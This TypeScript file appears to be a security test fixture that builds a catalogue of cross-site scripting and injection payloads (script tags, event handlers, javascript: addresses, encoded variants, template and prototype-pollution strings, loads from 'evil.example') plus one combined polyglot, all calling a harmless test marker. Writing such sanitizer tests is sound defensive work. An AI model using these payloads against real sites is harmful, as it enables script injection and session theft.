// What a hostile server would write wherever it may write something.

/**
 * What a payload does where it is taken for markup: `runs` code, `loads` from another host, runs when it is `followed`
 * as an address. The rest is `disguised`: harmless to a browser as it stands, and not to code that decodes it.
 */
export type PayloadKind = "runs" | "loads" | "followed" | "disguised";
export type Payload = { id: number; kind: PayloadKind; text: string };

/** The name of what a payload calls with its id, where it runs. */
export const ranBinding = "plugboardTestRan";
export const foreignHost = "evil.example";

type Template = (run: string, id: number) => string;

const running: Template[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt >${run}</sCrIpT >`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `<script type="module">${run}</script>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<img src=x onerror=${run}//`,
  (run) => `<IMG SRC=x OnErRoR=${run}>`,
  (run) => `<img/src="x"/onerror=${run}>`,
  (run) => `<img src="" onerror='${run}'>`,
  (run) =>
    `<img src=data:image/svg+xml,%3Csvg%20xmlns="http://www.w3.org/2000/svg"/%3E onload=${run}>`,
  (run) => `<image src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><image href=x onerror=${run}></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  (run) => `<svg><set onbegin=${run} attributeName=x dur=1s></svg>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<iframe onload=${run}></iframe>`,
  (run) => `<embed src="javascript:${run}"><img src=x onerror=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}></select>`,
  (run) => `<textarea autofocus onfocus=${run}></textarea>`,
  (run) => `<button autofocus onfocus=${run}>x</button>`,
  (run) => `<details open ontoggle=${run}><summary>x</summary></details>`,
  (run) => `<video src=x onerror=${run}></video>`,
  (run) => `<video><source src=x onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<link rel=stylesheet href=data:text/css, onload=${run}>`,
  (run) => `<style onload=${run}>a{}</style>`,
  (run) => `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<form><button formaction=x><img src=x onerror=${run}></form>`,
  (run) => `<table><td><img src=x onerror=${run}></table>`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<![CDATA[><img src=x onerror=${run}>]]>`,
  (run) => `<?xml version="1.0"?><img src=x onerror=${run}>`,
  (run) => `</title><img src=x onerror=${run}>`,
  (run) => `</style></script><img src=x onerror=${run}>`,
  (run) => `<img src=x onerror="&#112;lugboardTestRan${run.slice(ranBinding.length)}">`,
  (run) => `<img src=x:x onerror="setTimeout('${run}')">`,
  (run) => `<a autofocus tabindex=0 onfocus=${run} href=#>x</a>`,
  (_, id) => `<img src=x onerror="alert(${id})">`,
  (_, id) => `<svg onload="prompt(${id})">`,
];

const loading: Template[] = [
  (_, id) => `<img src="https://${foreignHost}/${id}.png">`,
  (_, id) => `<img srcset="//${foreignHost}/${id}.png 1x">`,
  (_, id) => `<picture><source srcset="//${foreignHost}/${id}.png"><img src=data:,></picture>`,
  (_, id) => `<link rel=stylesheet href="https://${foreignHost}/${id}.css">`,
  (_, id) => `<style>@import "https://${foreignHost}/${id}.css";</style>`,
  (_, id) =>
    `<p style="position:fixed;inset:0;background:url(https://${foreignHost}/${id}.png)">x</p>`,
  (_, id) => `<iframe src="https://${foreignHost}/${id}"></iframe>`,
  (_, id) => `<object data="https://${foreignHost}/${id}"></object>`,
  (_, id) => `<embed src="https://${foreignHost}/${id}">`,
  (_, id) => `<video poster="https://${foreignHost}/${id}.png"></video>`,
  (_, id) => `<audio autoplay src="https://${foreignHost}/${id}.ogg"></audio>`,
  (_, id) => `<svg><image href="https://${foreignHost}/${id}.png"></image></svg>`,
  (_, id) => `<script src="https://${foreignHost}/${id}.js"></script>`,
  (_, id) => `<input type=image src="https://${foreignHost}/${id}.png">`,
  (_, id) => `<meta http-equiv=refresh content="0;url=https://${foreignHost}/${id}">`,
];

const followed: Template[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `  javascript:${run}`,
  (run) => `javascript://x.example/%0a${run}`,
  (run) => `javascript:/*https://x.example*/${run}`,
];

const disguised: Template[] = [
  (run) => `data:text/html,<script>opener.${run}</script>`,
  (run) => `data:text/html;base64,${btoa(`<script>parent.${run}</script>`)}`,
  (run) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${run}"/>`,
  (run) => `vbscript:${run}`,
  (run) => `blob:https://${foreignHost}/${run}`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `&#60;img src=x onerror=${run}&#62;`,
  (run) => `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  (run) => `\\u003cimg src=x onerror=${run}\\u003e`,
  (run) => `\\x3cimg src=x onerror=${run}\\x3e`,
  (run) => `＜img src=x onerror=${run}＞`,
  (run) => `<scr\u200bipt>${run}</scr\u200bipt>`,
  (run) => `\u202e<img src=x onerror=${run}>\u202c`.replaceAll("<", "‹"),
  (run) => `[press](javascript:${run})`,
  (run) => `![x](x"onerror="${run})`,
  (run) => `[x]: javascript:${run}`,
  (run) => `<javascript:${run}>`,
  (_, id) => `![x](https://${foreignHost}/${id}.png)`,
  (_, id) => `https://${foreignHost}/${id}`,
  (_, id) => `//${foreignHost}/${id}`,
  (_, id) => `\\\\${foreignHost}\\${id}`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `{{${run}}}`,
  (run) => `<%= ${run} %>`,
  (run) => `'-${run}-'`,
  (run) => `";${run};//`,
  (run) => `\`-${run}-\``,
  (run) => `');${run};//`,
  (run) => `\u2028${run}\u2028`,
  (run) => `__proto__[x]=${run}`,
  (run) => `constructor.prototype.x=${run}`,
  (run) => `url("javascript:${run}")`,
  (run) => `expression(${run})`,
];

/** What stands before a payload that has to get out of an attribute first. */
const ways = ["", `">`, `'>`];

const texts: [PayloadKind, Template[], readonly string[]][] = [
  ["runs", running, ways],
  ["loads", loading, ways],
  ["followed", followed, [""]],
  ["disguised", disguised, [""]],
];

export const payloads: readonly Payload[] = texts
  .flatMap(([kind, templates, before]) =>
    templates.flatMap((template) => before.map((way) => ({ kind, template, way }))),
  )
  .map(({ kind, template, way }, id) => ({
    id,
    kind,
    text: `${way}${template(`${ranBinding}(${id})`, id)}`,
  }));

const [address = payloads[0] as Payload] = payloads.filter(({ kind }) => kind === "followed");
const image = payloads.find(({ text }) => text.startsWith("<img")) ?? address;

/** What would end the comment in which an address has the rest. */
const endsLine = /%0a|\u2028/;

/**
 * All of them in one text, which runs as an address too. What reaches a page cut off still begins with an address and
 * with markup.
 */
export const allInOne: Payload = {
  ...address,
  text: `${address.text}//${[image, ...payloads]
    .map(({ text }) => text)
    .filter((text) => !endsLine.test(text))
    .join(" ")}`,
};
